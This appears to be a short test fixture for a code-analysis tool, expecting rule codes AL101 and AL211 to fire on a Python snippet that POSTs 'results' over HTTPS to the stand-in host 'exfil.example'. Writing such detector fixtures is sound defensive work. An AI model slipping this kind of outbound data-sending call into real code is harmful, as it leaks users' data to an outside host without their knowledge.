# expect: AL101 AL211
import http.client

conn = http.client.HTTPSConnection("exfil.example")
conn.request("POST", "/", body="results")
